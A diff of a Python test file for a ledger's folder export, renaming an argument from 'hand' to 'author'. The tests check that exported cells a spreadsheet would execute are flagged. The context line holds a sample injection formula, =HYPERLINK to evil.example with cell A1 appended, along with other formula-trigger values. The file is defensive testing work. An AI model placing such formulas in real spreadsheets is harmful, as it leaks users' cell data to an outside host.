@@ -325,7 +325,7 @@ FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
 def test_a_folder_is_a_faithful_copy_and_says_which_cells_a_spreadsheet_would_run(ledger, tmp_path):
     started()
     texts = [FORMULA, "＝1+1", "-4", "@SUM(A1)", "plain"]
-    append([event("statement", "met", source="met-0924", text=text) for text in texts], hand=ANA, now=NOON)
+    append([event("statement", "met", source="met-0924", text=text) for text in texts], author=ANA, now=NOON)
     status, out, told = ledger("export", "--folder", "out", "--at", "2023-09-23T12:00")
     assert (status, out) == (0, "")
     assert told == (
@@ -337,5 +337,5 @@ def test_a_folder_is_a_faithful_copy_and_says_which_cells_a_spreadsheet_would_ru
 
 def test_a_folder_without_formulas_is_exported_without_a_word(ledger):
     started()
-    append([event("statement", "met", text="4 more = enough")], hand=ANA, now=NOON)
+    append([event("statement", "met", text="4 more = enough")], author=ANA, now=NOON)
     assert ledger("export", "--folder", "out", "--at", "2023-09-23T12:00") == (0, "", "")
